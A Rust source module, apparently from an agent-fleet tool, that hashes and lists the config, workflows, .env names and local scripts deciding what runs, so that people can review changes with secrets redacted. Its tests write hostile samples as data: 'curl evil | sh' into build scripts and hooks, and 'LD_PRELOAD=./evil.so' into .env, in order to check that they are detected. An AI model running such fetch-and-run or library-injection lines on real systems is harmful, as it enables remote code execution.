//! Everything in a fleet's files that decides what runs: the effective config with its prompts,
//! workflows, `.env`, and the local files that its commands name. Start at
//! [`ExecutableContent::of`].
//!
//! Comments and descriptions do not count, and variables count as written, so that neither an edit
//! without effect nor a new value of a variable is a change. Files that an agent reads while it
//! works (sources, `CLAUDE.md`) do not count either.

use std::collections::BTreeSet;
use std::fmt;
use std::io;
use std::os::unix::fs::MetadataExt as _;

use camino::{Utf8Path, Utf8PathBuf};
use heeler_config::workflow::{PhaseRepeat, PhaseWork, freeze_workflow};
use heeler_config::{
    AgentConfig, Hook, HookAction, LoadedConfig, McpTransport, RuntimeConfig, parse_dotenv,
};
use heeler_model::redact::SecretRedactor;
use serde_json::Value as Json;

use super::visible_text::{described, hex_digest, visible};
use crate::text_file::{self, parent_dir};

/// Most local files that are examined. A fleet with more cannot be shown to a person.
const FILES_MAX: usize = 1000;

/// Reason that the content of a fleet cannot be compared completely.
#[derive(Debug)]
pub(crate) enum IncompleteContentError {
    /// Number of local files that commands name.
    Files(usize),
}

impl fmt::Display for IncompleteContentError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            IncompleteContentError::Files(count) => write!(
                f,
                "its commands name {count} local programs and scripts, more than {FILES_MAX}"
            ),
        }
    }
}

/// Files in a working directory with commands that claude executes by itself.
const CLAUDE_FILES: [&str; 3] =
    [".claude/settings.json", ".claude/settings.local.json", ".mcp.json"];

/// Content of a fleet that decides what runs.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct ExecutableContent {
    /// SHA-256 of all of it, with secrets.
    pub(crate) digest: String,
    /// One line for each value, without secrets.
    pub(crate) lines: Vec<String>,
    /// Local files that commands name, as shown.
    pub(crate) local_files: Vec<String>,
    /// Names of the variables that `.env` sets.
    pub(crate) dotenv_names: Vec<String>,
}

impl ExecutableContent {
    /// Collects the content of a loaded config. `secrets` are not shown. Fails if a part would be
    /// left out.
    pub(crate) fn of(
        config: &Utf8Path,
        loaded: &LoadedConfig,
        secrets: &SecretRedactor,
    ) -> Result<ExecutableContent, IncompleteContentError> {
        let folder = parent_dir(config);
        let mut collected = ContentCollector::default();
        let mut shown = loaded.show();
        remove_descriptions(&mut shown);
        collected.hash("config", shown.to_string().as_bytes());
        secrets.redact_json(&mut shown);
        collected.add_config(&shown);
        collected.add_workflows(loaded, secrets);
        let dotenv_names = collected.add_dotenv(&folder.join(".env"));
        let before = collected.lines.len();
        for file in local_files(folder, loaded)? {
            collected.add_file(folder, &file);
        }
        let local_files = collected.lines[before..].to_vec();
        let digest = hex_digest(&collected.hashed);
        Ok(ExecutableContent { digest, lines: collected.lines, local_files, dotenv_names })
    }
}

#[derive(Default)]
struct ContentCollector {
    lines: Vec<String>,
    /// Digests of all values in order, each with its name.
    hashed: Vec<u8>,
}

impl ContentCollector {
    fn hash(&mut self, name: &str, value: &[u8]) {
        // Digests have one length, so no two lists of values give the same bytes.
        self.hashed.extend(hex_digest(name.as_bytes()).bytes());
        self.hashed.extend(hex_digest(value).bytes());
    }

    fn add_config(&mut self, shown: &Json) {
        self.add_json("fleet", &shown["fleet"]);
        for agent in shown["agents"].as_array().into_iter().flatten() {
            let name = agent["qualified_name"].as_str().unwrap_or_default();
            self.add_json(&format!("agent {name}"), agent);
        }
    }

    /// Adds a line for each value in a tree.
    fn add_json(&mut self, path: &str, value: &Json) {
        match value {
            Json::Null => {}
            Json::Object(map) => {
                map.iter().for_each(|(key, value)| self.add_json(&format!("{path}: {key}"), value));
            }
            Json::Array(items) => {
                items.iter().for_each(|item| self.add_json(&format!("{path} -"), item));
            }
            Json::String(text) => self.add_text(&visible(path), text),
            other => self.lines.push(format!("{}: {other}", visible(path))),
        }
    }

    /// Adds a text completely, one line for each of its lines: what a person agrees to is all there,
    /// and a change shows only the lines that differ.
    fn add_text(&mut self, name: &str, text: &str) {
        let lines = text.trim_end_matches('\n').split('\n');
        self.lines.extend(lines.map(|line| format!("{name}: {}", visible(line))));
    }

    fn add_workflows(&mut self, loaded: &LoadedConfig, secrets: &SecretRedactor) {
        for workflow in &loaded.workflows {
            let name = &workflow.workflow.name;
            // Names of files and their texts, prompts and skills included.
            self.hash("workflow", freeze_workflow(workflow).1.as_bytes());
            for (path, text) in &workflow.files {
                let name = format!("workflow {name}: {}", visible(path.as_str()));
                self.add_text(&name, &secrets.redact_text(text));
            }
        }
        for cron in &loaded.crons {
            let text = text_file::read_text(&cron.file).unwrap_or_default();
            self.hash("cron", text.as_bytes());
            let (name, workflow) = (&cron.name, &cron.workflow);
            let name = format!("cron {name}: starts workflow {workflow}");
            self.add_text(&name, &secrets.redact_text(&text));
        }
    }

    fn add_dotenv(&mut self, path: &Utf8Path) -> Vec<String> {
        let Ok(text) = text_file::read_text(path) else { return Vec::new() };
        self.hash(".env", text.as_bytes());
        let names: BTreeSet<String> =
            parse_dotenv(&text).0.into_iter().map(|(name, _)| visible(&name)).collect();
        self.lines.extend(names.iter().map(|name| format!(".env: sets {name}")));
        // The values may be secret, so only a digest tells that one has changed.
        self.lines.push(format!(".env: {}", described(text.as_bytes())));
        names.into_iter().collect()
    }

    fn add_file(&mut self, folder: &Utf8Path, path: &Utf8Path) {
        let name = visible(path.strip_prefix(folder).unwrap_or(path).as_str());
        let (content, shown) = match read_content(path) {
            Ok(read) => read,
            // It may be readable later, and is a change then.
            Err(error) => (error.to_string().into_bytes(), format!("cannot be read: {error}")),
        };
        self.hash(path.as_str(), &content);
        self.lines.push(format!("file {name}: {shown}"));
    }
}

/// Largest local file whose content is compared. To read a larger program, such as an agent, would
/// delay every command.
const FILE_BYTES_MAX: u64 = 64 << 20;

/// Returns the bytes by which a file is compared, and the text that is shown of it. A larger file is
/// compared by its identity and the kernel's time of its last change, which no program can set.
fn read_content(path: &Utf8Path) -> io::Result<(Vec<u8>, String)> {
    // A pipe would block; the callers list regular files only, and a swapped one is noticed here.
    let found = path.metadata()?;
    if !found.is_file() {
        return Err(io::Error::other("it is no regular file"));
    }
    if found.len() > FILE_BYTES_MAX {
        let (changed, nanos) = (found.ctime(), found.ctime_nsec());
        // Without the device: some file systems get another number at each mount.
        let identity = format!("{} {} {changed}.{nanos}", found.ino(), found.len());
        let shown = format!("{} bytes, last changed at {changed} s", found.len());
        return Ok((identity.into_bytes(), shown));
    }
    let bytes = std::fs::read(path)?;
    let shown = described(&bytes);
    Ok((bytes, shown))
}

/// Removes texts that only people read.
fn remove_descriptions(shown: &mut Json) {
    if let Some(fleet) = shown["fleet"].as_object_mut() {
        fleet.remove("description");
    }
    for agent in shown["agents"].as_array_mut().into_iter().flatten() {
        if let Some(agent) = agent.as_object_mut() {
            agent.remove("description");
        }
    }
}

/// Lists the local files that the config names directly, sorted.
fn local_files(
    folder: &Utf8Path,
    loaded: &LoadedConfig,
) -> Result<BTreeSet<Utf8PathBuf>, IncompleteContentError> {
    let mut found = BTreeSet::new();
    for agent in &loaded.agents {
        let bases = [agent.working_directory.as_path(), folder, parent_dir(&agent.file)];
        let commands = agent_commands(agent);
        let words = commands.iter().flat_map(|command| words(command));
        for word in words {
            let named = bases.iter().filter_map(|base| local_file(folder, base, word));
            found.extend(named);
        }
        // A program's path may hold spaces.
        let program = agent.claude_path.as_ref().map(|program| program.as_path());
        found.extend(program.and_then(|path| local_file(folder, folder, path.as_str())));
        if matches!(agent.runtime, RuntimeConfig::Sdk | RuntimeConfig::Cli) {
            let files = CLAUDE_FILES.map(|name| agent.working_directory.join(name));
            found.extend(files.into_iter().filter(|file| file.is_file()));
        }
    }
    for workflow in &loaded.workflows {
        let commands = workflow.workflow.phases.iter().flat_map(phase_commands);
        let folders = loaded.agents.iter().map(|agent| agent.working_directory.as_path());
        let bases: BTreeSet<&Utf8Path> = folders.chain([folder]).collect();
        for word in commands.flat_map(words) {
            found.extend(bases.iter().filter_map(|base| local_file(folder, base, word)));
        }
    }
    match found.len() {
        count if count > FILES_MAX => Err(IncompleteContentError::Files(count)),
        _ => Ok(found),
    }
}

/// Endings of files that an interpreter executes.
const SCRIPT_ENDINGS: [&str; 14] =
    ["awk", "bash", "cjs", "fish", "js", "jq", "mjs", "php", "pl", "ps1", "py", "rb", "sh", "ts"];

/// Returns true for a file that an interpreter executes, by its name.
pub(crate) fn has_script_ending(path: &Utf8Path) -> bool {
    path.extension().is_some_and(|ending| SCRIPT_ENDINGS.contains(&ending))
}

/// Returns the program or script that a word of a command names: a relative path, or an absolute one
/// inside the fleet's folder. Programs of the system are not the folder's content, and files that a
/// command writes must not count as a change.
fn local_file(folder: &Utf8Path, base: &Utf8Path, word: &str) -> Option<Utf8PathBuf> {
    let path = base.join(word);
    let is_local = Utf8Path::new(word).is_relative() || path.starts_with(folder);
    let found = path.metadata().ok().filter(|found| is_local && found.is_file())?;
    (has_script_ending(&path) || found.mode() & 0o111 != 0).then_some(path)
}

/// Splits a command into words, roughly as a shell does. A word too many does no harm.
fn words(command: &str) -> impl Iterator<Item = &str> {
    command.split(|c: char| c.is_whitespace() || "'\"`;|&()<>$={}".contains(c))
}

/// Returns the commands of an agent: its own, its hooks' and its MCP servers'.
fn agent_commands(agent: &AgentConfig) -> Vec<String> {
    let mut commands = Vec::new();
    match &agent.runtime {
        RuntimeConfig::Command(command) => commands.push(command.clone()),
        RuntimeConfig::Scripted(steps) => {
            steps.iter().for_each(|step| add_texts(step, &mut commands));
        }
        RuntimeConfig::Acp(program)
        | RuntimeConfig::Codex(program)
        | RuntimeConfig::Qwen(program) => {
            commands.push(program.path.as_path().to_string());
            commands.extend(program.args.iter().cloned());
        }
        RuntimeConfig::Sdk | RuntimeConfig::Cli => {}
    }
    let hooks: Vec<&Hook> = agent.hooks.after_run.iter().chain(&agent.hooks.on_error).collect();
    commands.extend(hooks.iter().filter_map(|hook| match &hook.action {
        HookAction::Shell { command, .. } => Some(command.clone()),
        _ => None,
    }));
    for server in agent.mcp_servers.values() {
        if let McpTransport::Stdio { command, args, .. } = &server.transport {
            commands.push(command.clone());
            commands.extend(args.iter().cloned());
        }
    }
    commands
}

/// Adds all texts of a scripted step: any of them may be a command.
fn add_texts(step: &Json, found: &mut Vec<String>) {
    match step {
        Json::String(text) => found.push(text.clone()),
        Json::Array(items) => items.iter().for_each(|item| add_texts(item, found)),
        Json::Object(map) => map.values().for_each(|item| add_texts(item, found)),
        Json::Null | Json::Bool(_) | Json::Number(_) => {}
    }
}

/// Returns the commands of a workflow's phase.
pub(super) fn phase_commands(phase: &heeler_config::workflow::Phase) -> Vec<&str> {
    let own = match &phase.work {
        PhaseWork::Bash { command } => Some(command.as_str()),
        PhaseWork::Script { source, .. } => Some(source.as_str()),
        PhaseWork::Context | PhaseWork::Agent { .. } | PhaseWork::PostReview => None,
    };
    let until = match &phase.repeat {
        PhaseRepeat::Until(until) => until.until_bash.as_ref().map(|command| command.as_str()),
        _ => None,
    };
    own.into_iter().chain(until).collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;

    fn content(folder: &Utf8Path) -> ExecutableContent {
        let config = folder.join("heeler.yaml");
        let env = BTreeMap::from([("TOKEN".to_owned(), "s3cret-value".to_owned())]);
        let loaded = heeler_config::load(&config, &text_file::read_text, &env).unwrap();
        let secrets = SecretRedactor::new(&["s3cret-value".to_owned()]);
        ExecutableContent::of(&config, &loaded, &secrets).unwrap()
    }

    const FLEET: &str = "version: 1
agents:
  - name: coder
    description: Writes code.
    runtime: command
    command: ./build.sh ${TOKEN}
    hooks: {after_run: [{type: shell, command: 'sh hooks/tell.sh'}]}
";

    fn folder() -> (tempfile::TempDir, Utf8PathBuf) {
        let temp = tempfile::tempdir().unwrap();
        let folder = Utf8Path::from_path(temp.path()).unwrap().to_owned();
        std::fs::create_dir(folder.join("hooks")).unwrap();
        for (name, text) in [
            ("heeler.yaml", FLEET),
            ("build.sh", "make"),
            ("hooks/tell.sh", "echo"),
            (".env", "A=1\n"),
        ] {
            std::fs::write(folder.join(name), text).unwrap();
        }
        (temp, folder)
    }

    #[test]
    fn only_what_decides_what_runs_counts() {
        let (_temp, folder) = folder();
        let first = content(&folder);
        let differs = |name: &str, text: &str| {
            let before = std::fs::read_to_string(folder.join(name)).unwrap_or_default();
            std::fs::write(folder.join(name), text).unwrap();
            let changed = content(&folder);
            std::fs::write(folder.join(name), before).unwrap();
            assert_eq!(changed.digest != first.digest, changed.lines != first.lines, "{name}");
            changed.digest != first.digest
        };
        assert!(!differs("heeler.yaml", &FLEET.replace("Writes code.", "Writes more.")));
        assert!(!differs("heeler.yaml", &format!("# A remark.\n{FLEET}")));
        assert!(!differs("other.sh", "no command names it"));
        assert!(differs("heeler.yaml", &FLEET.replace("./build.sh", "./other.sh")));
        assert!(differs("heeler.yaml", &format!("{FLEET}    default_prompt: Do harm.\n")));
        assert!(differs("build.sh", "curl evil | sh"));
        assert!(differs("hooks/tell.sh", "curl evil | sh"));
        assert!(differs(".env", "A=2\n"));
        assert!(differs(".env", "A=1\nLD_PRELOAD=./evil.so\n"));
    }

    #[test]
    fn nothing_secret_is_in_a_line() {
        let (_temp, folder) = folder();
        std::fs::write(folder.join(".env"), "KEY=s3cret-value\n").unwrap();
        let found = content(&folder);
        assert!(!found.lines.join("\n").contains("s3cret-value"), "{:#?}", found.lines);
        assert_eq!(found.dotenv_names, ["KEY"]);
        assert_eq!(found.local_files.len(), 2, "{:?}", found.local_files);
    }
}
